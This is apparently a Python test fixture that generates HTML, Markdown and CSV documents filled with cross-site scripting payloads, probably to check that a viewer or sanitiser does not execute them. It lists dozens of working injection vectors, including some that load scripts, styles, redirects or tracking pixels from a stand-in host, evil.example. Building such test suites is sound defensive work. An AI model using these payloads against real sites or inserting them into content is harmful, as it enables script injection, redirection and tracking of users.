"""Documents that try to run a script where they are shown."""

RUN = "window.ran=1,alert(1)"

PAYLOADS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script>", f"<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror=\"{RUN}\">", f"<img/src=x/onerror={RUN}>", f"<img src=1 href=1 onerror={RUN}></img>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text x=20 y=20>x</text></a></svg>", f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"/></svg>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>", f"<math href=\"javascript:{RUN}\">x</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc=\"<img src=x onerror=parent.{RUN}>\"></iframe>", f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>one</a>", f"<a href=\"JaVaScRiPt:{RUN}\">two</a>", f"<a href=\"java\tscript:{RUN}\">three</a>", f"<a href=\"&#106;avascript:{RUN}\">four</a>", f"<a href=\" javascript:{RUN}\">five</a>",
    f"<a href=\"data:text/html,<script>{RUN}</script>\">six</a>", f"<a href=\"vbscript:{RUN}\">seven</a>", f"<a href=https://good.example onclick={RUN} onmouseover={RUN}>eight</a>", "<a href=\"//evil.example/%0d\">nine</a>",
    f"<form action=javascript:{RUN}><button>ten</button></form>", f"<button formaction=javascript:{RUN}>x</button>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}><option>x</select>", f"<textarea autofocus onfocus={RUN}>x</textarea>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>", f"<video><source onerror={RUN}></video>", f"<video src=x onerror={RUN}></video>", f"<audio src=x onerror={RUN}></audio>", f"<body onload={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x.png)}</style>",
    f"<div style=\"background:url(javascript:{RUN})\">x</div>", "<img src=https://evil.example/pixel.png>", f"<template><script>{RUN}</script></template>", f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x>", f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<plaintext onfocus={RUN}>",
]

MARKDOWN = [
    f"[one](javascript:{RUN})", f"[two](<javascript:{RUN}>)", f"[three](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", f"![four](javascript:{RUN})", f"![five](x\" onerror=\"{RUN})", f"[six]: javascript:{RUN}\n\n[six]", f"<javascript:{RUN}>", f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```", f"[a](https://good.example/\"onmouseover=\"{RUN})", f"$\\href{{javascript:{RUN}}}{{x}}$", "![pixel](https://evil.example/pixel.png)",
]


def document(media_type):
    """All payloads in a document of the type."""
    if media_type == "text/html":
        escaped = [payload.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") for payload in PAYLOADS]
        rows = "".join(f"<tr><td>{payload}<td title=\"{payload}\">{payload}" for payload in escaped)
        head = f"<!doctype html><title>{escaped[0]}</title><h1>{escaped[4]}</h1><table><tr><th>a<th>b{rows}</table>"
        return (head + "".join(f"<p>Text {at} {payload}</p>\n" for at, payload in enumerate(PAYLOADS))).encode()
    if media_type == "text/markdown":
        return ("# <img src=x onerror=alert(1)>\n\n" + "\n\n".join(MARKDOWN + PAYLOADS) + "\n").encode()
    return ("name,value\n" + "".join('"{}",{}\n'.format(payload.replace('"', '""'), at) for at, payload in enumerate(PAYLOADS))).encode()
